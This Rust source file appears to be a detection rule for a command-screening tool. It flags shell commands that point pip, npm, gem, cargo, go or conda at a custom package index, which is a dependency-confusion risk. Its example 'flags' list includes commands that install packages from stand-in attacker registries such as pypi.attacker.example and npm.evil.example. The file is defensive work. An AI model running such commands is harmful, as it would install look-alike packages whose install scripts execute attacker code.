use crate::analysis::Analysis;
use crate::rules::{at_cmd, RuleMeta};
use airlock_protocol::{Category, Decision, Finding, Severity};

pub static META: RuleMeta = RuleMeta {
    code: "SUP001",
    name: "custom-package-index",
    category: Category::SupplyChain,
    severity: Severity::High,
    decision: Decision::Ask,
    summary: "Packages are fetched from, or the package manager is pointed at, a custom index or registry: `pip install --index-url`/`-i`/ \
              `--extra-index-url`/`--trusted-host`, `npm`/`yarn`/`pnpm` `--registry` or `config set registry`, `pip config set global.index-url`, \
              `GOPROXY`/`GONOSUMDB`/`GOINSECURE`, `gem sources --add`, `cargo --index`.",
    why: "A different index can serve a look-alike package with the same name (dependency confusion): its install script runs at once.",
    instead: "Use the project's configured registry; change registries in reviewed configuration files.",
    references: &["CWE-494", "CWE-829", "ATT&CK T1195.001"],
    flags: &["pip install --index-url http://pypi.attacker.example/simple requests", "npm install lodash --registry https://npm.evil.example", "npm config set registry http://10.0.0.1:4873", "GOPROXY=https://proxy.evil.example go get ./...", "pip install --extra-index-url https://x.example/simple internal-lib"],
    passes: &["pip install requests", "npm install lodash", "cargo add serde", "go get ./..."],
};

pub fn check(a: &Analysis, m: &RuleMeta, out: &mut Vec<Finding>) {
    for cmd in &a.cmds {
        let Some(base) = cmd.base() else { continue };
        let texts: Vec<&str> = cmd.arg_texts().collect();
        let opt = |names: &[&str]| {
            texts.iter().any(|t| {
                names.contains(t)
                    || names
                        .iter()
                        .any(|n| n.starts_with("--") && t.starts_with(&format!("{n}=")))
            })
        };
        let hit = match base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
            "pip" | "pipx" | "uv" | "poetry" | "pdm" => {
                opt(&[
                    "-i",
                    "--index-url",
                    "--extra-index-url",
                    "--trusted-host",
                    "--find-links",
                    "-f",
                    "--default-index",
                    "--index",
                ]) || (texts.contains(&"config")
                    && texts
                        .iter()
                        .any(|t| t.contains("index-url") || t.contains("trusted-host")))
                    || (texts.contains(&"source") && texts.contains(&"add"))
            }
            "npm" | "yarn" | "pnpm" | "bun" | "npx" => {
                opt(&["--registry"])
                    || (texts.contains(&"config")
                        && texts.contains(&"set")
                        && texts.iter().any(|t| t.contains("registry")))
            }
            "gem" => {
                texts.contains(&"sources") && opt(&["--add", "-a"])
                    || opt(&["--source", "--clear-sources"])
            }
            "cargo" => opt(&["--index", "--registry"]) && !texts.contains(&"publish"),
            "go" => {
                texts.contains(&"env")
                    && texts.contains(&"-w")
                    && texts.iter().any(|t| {
                        t.starts_with("GOPROXY")
                            || t.starts_with("GONOSUMDB")
                            || t.starts_with("GOINSECURE")
                            || t.starts_with("GOFLAGS")
                            || t.starts_with("GONOSUMCHECK")
                            || t.starts_with("GOSUMDB")
                    })
            }
            "conda" | "mamba" => {
                opt(&["-c", "--channel"]) && texts.iter().any(|t| t.contains("://"))
            }
            _ => false,
        };
        let env_hit = cmd.env.iter().chain(std::iter::empty()).any(|(k, _)| {
            matches!(
                k.as_str(),
                "GOPROXY"
                    | "GONOSUMDB"
                    | "GOINSECURE"
                    | "GOSUMDB"
                    | "PIP_INDEX_URL"
                    | "PIP_EXTRA_INDEX_URL"
                    | "NPM_CONFIG_REGISTRY"
                    | "npm_config_registry"
                    | "UV_INDEX_URL"
                    | "CARGO_REGISTRIES_DEFAULT"
            )
        });
        let export_hit = cmd.is(&["export"])
            && texts.iter().any(|t| {
                [
                    "GOPROXY=",
                    "GONOSUMDB=",
                    "GOINSECURE=",
                    "PIP_INDEX_URL=",
                    "PIP_EXTRA_INDEX_URL=",
                    "NPM_CONFIG_REGISTRY=",
                    "npm_config_registry=",
                ]
                .iter()
                .any(|p| t.starts_with(p))
            });
        if hit || env_hit || export_hit {
            out.push(at_cmd(
                a,
                m,
                cmd,
                format!("uses or configures a custom package index for `{base}`"),
            ));
        }
    }
}
